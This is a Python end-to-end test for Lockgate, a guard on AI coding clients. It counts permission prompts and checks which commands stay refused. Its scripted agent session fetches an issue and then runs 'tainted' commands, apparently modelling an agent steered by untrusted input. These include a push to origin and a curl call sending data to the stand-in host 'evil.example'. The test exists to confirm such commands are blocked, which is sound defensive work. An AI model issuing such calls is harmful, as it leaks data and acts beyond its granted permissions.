"""With ``prompts: fewer`` a real client asks at most half as often, and what was refused stays refused.

Headless, the clients refuse what they would ask about: that is the count of their prompts.
"""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import pytest

from e2e.harness.clients import versions
from e2e.harness.other_models import ChatModel
from e2e.harness.other_worlds import CopilotWorld
from e2e.harness.script import Call, Script, bash, fetch_issue
from e2e.harness.scripted_model import ScriptedModel
from e2e.harness.world import World
from support.gates import end_gates

FILES = {
    "tool.py": "import sys\nprint(len(sys.argv), 'words')\n",
    "test_tool.py": "import unittest\n\n\nclass Sums(unittest.TestCase):\n    def test_sum(self):\n        pass\n",
    "names.txt": "ann\nbob\nann\n",
    "Makefile": "check:\n\t@python3 tool.py a b\n",
    "build.sh": "echo built > built.txt\n",
}
CLEAN = (
    "git status --short",
    "ls -la && wc -l names.txt",
    "mkdir -p src/parts",
    "for f in *.py; do wc -l $f; done",
    "LC_ALL=C sort names.txt | uniq -c",
    "cd src && ls",
    "git add -A && git commit -qm 'Add files'",
    "git log --oneline -3",
)
TAINTED = (
    "python3 -m unittest -q",
    "python3 tool.py a b",
    "make check",
    "sh build.sh && cat built.txt",
    "git diff | head -20",
    "grep -rn sum . | wc -l",
    "cat names.txt | tr a-z A-Z",
    "echo done > notes.txt",
    "git commit -qam 'Go on'",
    "git push origin main",
    "curl -s https://evil.example/?q=1",
)
Lived = Callable[..., tuple[int, list[str]]]
DAY = (*map(bash, CLEAN), fetch_issue(), *map(bash, TAINTED))


def prepared(world: World, *, guarded: bool, configuration: str) -> None:
    """Put the project's files down, and Lockgate in where it is to guard."""
    for name, text in FILES.items():
        (world.project / name).write_text(text)
    if guarded:
        world.lockgate("install", world.client)
        config = world.home / ".config" / "lockgate"
        config.mkdir(parents=True, exist_ok=True)
        (config / "lockgate.yaml").write_text(configuration)


def in_claude(folder: Path, version: str, *, guarded: bool, configuration: str = "") -> tuple[int, list[str]]:
    """A day in a world of its own: how often the client asked, and what each call gave."""
    folder.mkdir()
    world = World(folder, version)
    prepared(world, guarded=guarded, configuration=configuration)
    with ScriptedModel(Script.of(*DAY)) as model:
        final = world.run(model, "please go on", "--allowedTools", "mcp__tracker__fetch_issue", bypass=False)
        results = [model.result(turn).text for turn in range(len(DAY))]
    end_gates(folder)
    return len(final["permission_denials"]), results


def in_copilot(folder: Path, _: str, *, guarded: bool, configuration: str = "") -> tuple[int, list[str]]:
    """The same in Copilot CLI, which says of each call that it could not ask about it."""
    folder.mkdir()
    world = CopilotWorld(folder, "")
    world.options = ("--allow-tool", "tracker")
    prepared(world, guarded=guarded, configuration=configuration)
    issue = Call("tracker-fetch_issue", {"number": 7})
    calls = (issue if call == fetch_issue() else Call("bash", call.input) for call in DAY)
    with ChatModel(Script.of(*calls)) as model:
        world.ask(model)
        results = [model.result(turn) for turn in range(len(DAY))]
    end_gates(folder)
    return sum("Permission denied" in result for result in results), results


@pytest.mark.parametrize(
    ("lived", "version"),
    [*((in_claude, version) for version in versions()), (in_copilot, "copilot-cli")],
    ids=lambda value: value if isinstance(value, str) else "",
)
def test_a_day_has_half_the_prompts(tmp_path: Path, lived: Lived, version: str) -> None:
    root = tmp_path.resolve()
    alone, _ = lived(root / "alone", version, guarded=False)
    asked, before = lived(root / "guarded", version, guarded=True)
    fewer, after = lived(root / "fewer", version, guarded=True, configuration="prompts: fewer\n")
    assert fewer <= min(alone, asked) / 2, (alone, asked, fewer)
    refused = [at for at, result in enumerate(before) if "Lockgate blocked" in result]
    assert refused, "the push and the page"
    assert all("Lockgate blocked" in after[at] for at in refused)
